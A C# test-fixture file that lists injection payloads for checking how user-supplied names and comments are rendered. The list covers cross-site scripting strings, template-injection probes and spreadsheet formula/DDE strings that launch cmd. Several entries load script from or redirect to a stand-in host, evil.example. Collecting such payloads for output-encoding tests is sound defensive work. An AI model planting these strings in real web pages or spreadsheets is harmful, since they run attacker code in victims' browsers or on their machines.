namespace QaInsight.Tests.Web;

/// <summary>What somebody might write into a name or a comment so that a browser, a chart or a spreadsheet runs it.</summary>
internal static class Payloads
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "<!--<script>", "]]><b>", "<a href=\"javascript:alert(1)\">x</a>",
        "%{customdata}<b>bold</b>", "&lt;script&gt;", "{{7*7}}", "\u2028</script>", "--><style>*{display:none}</style>",
        "<ScRiPt>alert(2)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=\"x\" onerror=\"alert`1`\">", "<svg><script>alert(3)</script></svg>", "<iframe srcdoc=\"<script>alert(4)</script>\"></iframe>",
        "<body onload=alert(5)>", "<details open ontoggle=alert(6)>", "<input autofocus onfocus=alert(7)>", "<math><mtext></mtext><script>alert(8)</script></math>", "<object data=\"data:text/html,<script>alert(9)</script>\">",
        "<embed src=javascript:alert(10)>", "<form action=javascript:alert(11)><button>x</button></form>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
        "javascript:alert(12)", "data:text/html;base64,PHNjcmlwdD4=", "\" onmouseover=alert(13) x=\"", "' autofocus onfocus=alert(14) '", "`-alert(15)-`", "${alert(16)}", "<%= 7*7 %>", "@(7*7)", "#{7*7}", "\\u003cscript\\u003e",
        "\uFF1Cscript\uFF1Ealert(17)\uFF1C/script\uFF1E", "<b\u0000onclick=alert(18)>".Replace("\0", " ", StringComparison.Ordinal), "<<script>alert(19)//<</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(20)>\">",
        "<template><script>alert(21)</script></template>", "<textarea></textarea><script>alert(22)</script>", "<title></title><script>alert(23)</script>", "<video><source onerror=alert(24)></video>",
        "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A1", "-2+3+cmd|' /C calc'!A2", "@SUM(1+1)*cmd|' /C calc'!A3", "\uFF1D1+1",
    ];
}
